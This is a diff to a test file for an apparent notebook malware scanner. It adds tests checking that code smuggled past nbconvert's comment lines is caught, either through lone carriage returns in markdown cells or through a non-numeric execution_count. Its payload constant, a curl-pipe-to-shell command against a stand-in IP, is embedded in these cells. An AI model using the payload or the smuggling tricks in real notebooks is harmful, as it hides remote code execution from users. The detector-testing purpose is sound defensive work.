@@ -6,6 +6,11 @@ text/x-python (TemplateExporter's raw_mimetypes default to [output_mimetype, ""]
 rawcell), and jupytext writes a raw cell active for py as code. A site or a launcher that converts the notebook and
 runs the script runs it. Such raw cells are now read as code cells (analyzer/engine/notebooks.py `_exported_raw`);
 raw cells of another type (rst, LaTeX, HTML, Markdown) stay out.
+
+The same script holds as code what follows a lone carriage return in a markdown cell (nbconvert's comment_lines
+comments at each line feed only; Python ends a line at "\r" too): read as code (`_past_comment`). A code cell's
+execution_count that is not a number goes into the script's `# In[...]:` prompt line, where a line break in it
+starts code: a doubt (unanalyzable.notebook).
 """
 
 from __future__ import annotations
@@ -26,13 +31,13 @@ EXPECTED = {e["path"]: e["expect"] for e in kit.labelled("redteam58b_")}
 
 def test_samples_are_labelled():
     assert set(SAMPLES) | set(TWINS) == set(EXPECTED)
-    assert len(SAMPLES) == 10 and len(TWINS) == 5
+    assert len(SAMPLES) == 12 and len(TWINS) == 6
 
 
 @pytest.mark.parametrize("sample", SAMPLES)
-def test_attack_is_rejected(sample):
+def test_attack_is_held(sample):
     report = kit.scan_sample(sample)
-    kit.assert_held(report, decision=Decision.REJECT)
+    kit.assert_held(report)
     assert report.decision.value in EXPECTED[sample], kit.findings(report)
 
 
@@ -53,11 +58,11 @@ PAYLOAD = 'import os\nos.system("curl -s http://203.0.113.7/s | sh")'
 TRAIN = "import torch\nnet = torch.nn.Linear(4, 2)\n"
 
 
-def _notebook(raw_metadata: dict, source: str = PAYLOAD) -> str:
+def _notebook(raw_metadata: dict, source: str = PAYLOAD, kind: str = "raw", count: object = None) -> str:
     return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"language_info": {"name": "python"}},
-                       "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
+                       "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": count,
                                   "source": TRAIN},
-                                 {"cell_type": "raw", "metadata": raw_metadata, "source": source}]})
+                                 {"cell_type": kind, "metadata": raw_metadata, "source": source}]})
 
 
 @pytest.mark.parametrize("metadata", [
@@ -105,3 +110,34 @@ def test_the_cli_rejects_a_raw_cell_payload(tmp_path):
     out = run_cli("scan", "--format", "json", str(path))
     assert out.stdout, out.stderr
     assert json.loads(out.stdout)["reports"][0]["decision"] == "reject", out.stdout[-2000:]
+
+
+# ---- markdown and prompts the script writes as comments -------------------------------------------------------------
+
+@pytest.mark.parametrize("source", [
+    "## Setup\r" + PAYLOAD.replace("\n", "; "),
+    "## Setup\nThe model.\r" + PAYLOAD.replace("\n", "\r"),
+    "\r" + PAYLOAD.replace("\n", "\r\n\r"),
+])
+def test_code_after_a_lone_carriage_return_in_markdown_is_judged(source):
+    kit.assert_held(kit.scan_text(_notebook({}, source, kind="markdown"), "train.ipynb"), rule="subprocess.shell",
+                    decision=Decision.REJECT)
+
+
+@pytest.mark.parametrize("source", [
+    "## Setup\r\nimport os; os.system(...) is never called here.\r\n",
+    "## Setup\nimport os; os.system(...) is never called here.\n",
+])
+def test_markdown_with_line_feeds_stays_comment(source):
+    kit.assert_accepted(kit.scan_text(_notebook({}, source, kind="markdown"), "train.ipynb"))
+
+
+@pytest.mark.parametrize("count", ["1]:\nimport os  # ", 1.5, True, [1]])
+def test_an_execution_count_that_is_not_a_number_is_not_vouched(count):
+    report = kit.scan_text(_notebook({}, "x = 1", kind="code", count=count), "train.ipynb")
+    kit.assert_held(report, rule="unanalyzable.notebook")
+
+
+@pytest.mark.parametrize("count", [None, 0, 17])
+def test_a_numbered_prompt_stays_accepted(count):
+    kit.assert_accepted(kit.scan_text(_notebook({}, "x = 1", kind="code", count=count), "train.ipynb"))
